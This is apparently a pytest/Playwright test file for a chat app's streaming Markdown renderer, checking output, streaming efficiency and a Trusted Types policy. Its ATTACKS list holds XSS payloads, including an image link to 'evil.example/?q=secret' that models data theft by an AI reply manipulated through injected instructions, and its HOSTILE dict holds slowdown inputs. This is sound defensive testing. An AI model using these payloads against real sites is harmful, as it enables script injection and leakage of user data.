"""The renderer, in a browser: what Markdown means, that nothing in it becomes markup, and that a stream costs what is new."""

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from fastapi import FastAPI
from playwright.async_api import Browser, Page

from hutong.apps.chat.page import endpoints
from support.clicking import reading
from support.http import serving

pytestmark = [pytest.mark.browser]
RENDER = """async ([text, step]) => {
  const { MarkdownView } = await import(new URL("page/js/markdown/view.js", document.baseURI));
  const root = document.createElement("div"), view = new MarkdownView(root);
  for (let at = 0; at < text.length; at += step) { view.append(text.slice(at, at + step)); view.draw(); }
  view.end();
  document.body.replaceChildren(root);
  return root.innerHTML;
}"""
WHOLE = 10**9


@pytest.fixture
async def base() -> AsyncIterator[str]:
    """The page as it stands before anybody signed in, with its real policy."""
    app = FastAPI()
    app.include_router(endpoints.router)
    async with serving(app) as url:
        yield url


@pytest.fixture
async def page(browser: Browser, base: str) -> AsyncIterator[Page]:
    async with reading(browser) as reader:
        yield await reader.open(f"{base}/")
        assert reader.complaints == []


async def render(page: Page, text: str, step: int = WHOLE) -> str:
    html: str = await page.evaluate(RENDER, [text, step])
    return html


MEANINGS: dict[str, tuple[str, str]] = {
    "emphasis": (
        "a *b* **c** ***d*** ~~e~~",
        "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <s>e</s></p>",
    ),
    "emphasis in Chinese": ("这是**重点。**后面", "<p>这是<strong>重点。</strong>后面</p>"),
    "names with underscores": ("snake_case_name and 2*3*4", "<p>snake_case_name and 2<em>3</em>4</p>"),
    "unclosed": ("a **b and `c", "<p>a **b and `c</p>"),
    "code": ("`` a ` b `` and `<b>`", "<p><code>a ` b</code> and <code>&lt;b&gt;</code></p>"),
    "escapes": (r"\*a\* \[b\](c)", "<p>*a* [b](c)</p>"),
    "headings": ("# A\n## B\n#no", "<h3>A</h3><h4>B</h4><p>#no</p>"),
    "rule": ("a\n\n---\nb", "<p>a</p><hr><p>b</p>"),
    "lines": ("a\nb", "<p>a<br>b</p>"),
    "quote": ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    "lists": (
        "- a\n  - b\n- c\n\n1. d\n2. e",
        "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol><li>d</li><li>e</li></ol>",
    ),
    "list that begins later": ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    "code in a list": ("1. a\n   ```\n   b\n   ```\n2. c", "<code>b\n</code>"),
    "a year is no list": ("it was in\n1999. then", "<p>it was in<br>1999. then</p>"),
    "table": (
        "| a | b |\n|---|--:|\n| 1 | `x\\|y` |",
        '<tr><td class="">1</td><td class="right"><code>x|y</code></td></tr>',
    ),
    "address": ("see https://example.com/a_b_c.", ">https://example.com/a_b_c</a>."),
    "address before Chinese": ("见https://example.com/a。好", ">https://example.com/a</a>。好"),
    "parentheses": ("[a](https://e.com/x_(y))", 'href="https://e.com/x_(y)"'),
}


@pytest.mark.parametrize(("text", "meaning"), MEANINGS.values(), ids=MEANINGS)
@pytest.mark.parametrize("step", [WHOLE, 1], ids=["whole", "by characters"])
async def test_what_it_means(page: Page, text: str, meaning: str, step: int) -> None:
    """Whether it comes at once or character by character."""
    html = (await render(page, text, step)).replace(' tabindex="0"', "")

    assert meaning in html


async def test_links_open_elsewhere_and_learn_nothing(page: Page) -> None:
    html = await render(page, "[a](https://example.com)")

    assert 'target="_blank"' in html and 'rel="noopener noreferrer nofollow"' in html


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg/onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt:window.hit=1)",
    "[a](\x01javascript:window.hit=1)",
    "[a](java\tscript:window.hit=1)",
    "[a](&#106;avascript:window.hit=1)",
    "[a](data:text/html,<script>window.hit=1</script>)",
    "[a](vbscript:x)",
    "[a](<javascript:window.hit=1>)",
    "<javascript:window.hit=1>",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.com/x)",
    "![a](javascript:window.hit=1)",
    '[a](https://e.com" onmouseover="window.hit=1)',
    "[a](https://e.com 'x' onclick=window.hit=1)",
    "```<img src=x onerror=window.hit=1>\n<script>window.hit=1</script>\n```",
    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "`<img src=x onerror=window.hit=1>`",
    "# <img src=x onerror=window.hit=1>",
    "<a href='javascript:window.hit=1'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "![exfiltration](https://evil.example/?q=secret)",
    "[//evil.example](//evil.example)",
    "[x](/api/v1/auth/logout)",
]
LOOK = """() => {
  const made = [...document.body.querySelectorAll("*")];
  for (const element of made) element.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
  const click = { bubbles: true, cancelable: true, ctrlKey: true };
  for (const link of document.querySelectorAll("a")) link.dispatchEvent(new MouseEvent("click", click));
  return {
    hit: window.hit ?? null,
    names: [...new Set(made.map((element) => element.localName))],
    schemes: [...new Set([...document.querySelectorAll("[href]")].filter((a) => a.localName === "a").map((a) => a.protocol))],
    handlers: made.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")),
  };
}"""
ALLOWED = {
    *(
        "div",
        "p",
        "h3",
        "h4",
        "h5",
        "h6",
        "em",
        "strong",
        "s",
        "code",
        "pre",
        "br",
        "hr",
        "a",
        "blockquote",
        "ul",
        "ol",
        "li",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "span", "button", "svg", "path", "input"),
}


@pytest.mark.parametrize("step", [WHOLE, 1], ids=["whole", "by characters"])
async def test_nothing_becomes_markup(page: Page, step: int) -> None:
    """Every attack, alone and inside of lists, quotes and emphasis."""
    for attack in ATTACKS:
        for text in (
            attack,
            f"> - **{attack}**",
            f"1. {attack}\n\n   {attack}",
            f"*a [{attack}](https://example.com) b*",
        ):
            await render(page, text, step)
            found = await page.evaluate(LOOK)

            assert found["hit"] is None, text
            assert set(found["names"]) <= ALLOWED, text
            assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}, text
            assert found["handlers"] == [], text


async def test_a_picture_is_a_link_that_nobody_follows(page: Page) -> None:
    """Fetching it would tell a stranger what a manipulated reply has put into its address."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    html = await render(page, "![chart](https://evil.example/?q=secret)")

    assert "<img" not in html and ">chart</a>" in html.replace("\U0001f5bc ", "")
    assert [url for url in asked if "evil" in url] == []


async def test_the_policy_refuses_markup_from_scripts(browser: Browser, base: str) -> None:
    """Should the renderer ever assign markup, the browser throws."""
    async with reading(browser) as reader:
        page = await reader.open(f"{base}/")
        refused = await page.evaluate(
            "() => { try { document.body.innerHTML = '<b>x</b>'; return ''; } catch (e) { return e.name; } }"
        )

    assert refused == "TypeError"
    assert "TrustedHTML" in reader.complaints[0]


STREAMED = """async (text) => {
  const { MarkdownView } = await import(new URL("page/js/markdown/view.js", document.baseURI));
  const root = document.createElement("div"), view = new MarkdownView(root);
  let made = 0;
  const count = (changes) => { for (const change of changes) made += change.addedNodes.length; };
  new MutationObserver(count).observe(root, { childList: true });
  const first = [];
  const start = performance.now();
  for (let at = 0; at < text.length; at += 8) {
    view.append(text.slice(at, at + 8));
    view.draw();
    first[0] ??= root.children.length > 3 ? root.children[0] : undefined;
    if (at % 800 === 0) await null;
  }
  view.end();
  await null;
  return { made, blocks: root.children.length, kept: first[0] === root.children[0], milliseconds: performance.now() - start };
}"""


async def test_what_is_complete_is_not_drawn_again(page: Page) -> None:
    """Of 300 paragraphs, each is drawn anew only while it is being written."""
    text = "\n\n".join(f"Paragraph {n} with **words** and `code` to read." for n in range(300))

    found = await page.evaluate(STREAMED, text)

    assert found["blocks"] == 300
    assert found["kept"]
    assert (
        found["made"] <= 300 * 15
    )  # seven deltas a paragraph, and the drawing for good; all of them anew would be 300,000


async def test_a_block_of_code_grows_by_its_lines(page: Page) -> None:
    """2,000 lines make one element, whose text is added to."""
    lines = "\n".join(f"line({n})" for n in range(2000))

    found = await page.evaluate(STREAMED, f"Here:\n\n```py\n{lines}\n```\nDone.")

    assert found["blocks"] == 3
    assert found["made"] < 40
    assert await page.evaluate(RENDER, [f"```py\n{lines}\n```", 7]) == await page.evaluate(
        RENDER, [f"```py\n{lines}\n```", WHOLE]
    )


HOSTILE = {
    "stars": "*" * 20_000,
    "stars and letters": "*a_" * 10_000,
    "brackets": "[" * 20_000,
    "closed brackets": "[a](" * 8_000,
    "backticks": "".join("`" * n + " " for n in range(200)) * 2,
    "quotes": ">" * 5_000 + "a",
    "deep lists": "\n".join("  " * n + "- a" for n in range(400)),
    "parentheses": "[a](" + "(" * 20_000,
    "pipes": "|" * 20_000 + "\n" + "|-" * 10_000,
    "addresses": "https://" * 4_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
async def test_hostile_text_takes_no_time(page: Page, text: str) -> None:
    """What a model may be talked into saying keeps nobody's browser busy."""
    took: float = await page.evaluate(
        "async (given) => { const start = performance.now(); await ("
        + RENDER
        + ")(given); return performance.now() - start; }",
        [text, WHOLE],
    )

    assert took < 1500


async def test_the_same_text_in_any_pieces_is_the_same_page(page: Page) -> None:
    text = "\n\n".join(value for value, _ in MEANINGS.values())

    whole: Any = await render(page, text)

    for step in (1, 2, 3, 7, 50):
        assert json.dumps(await render(page, text, step)) == json.dumps(whole)
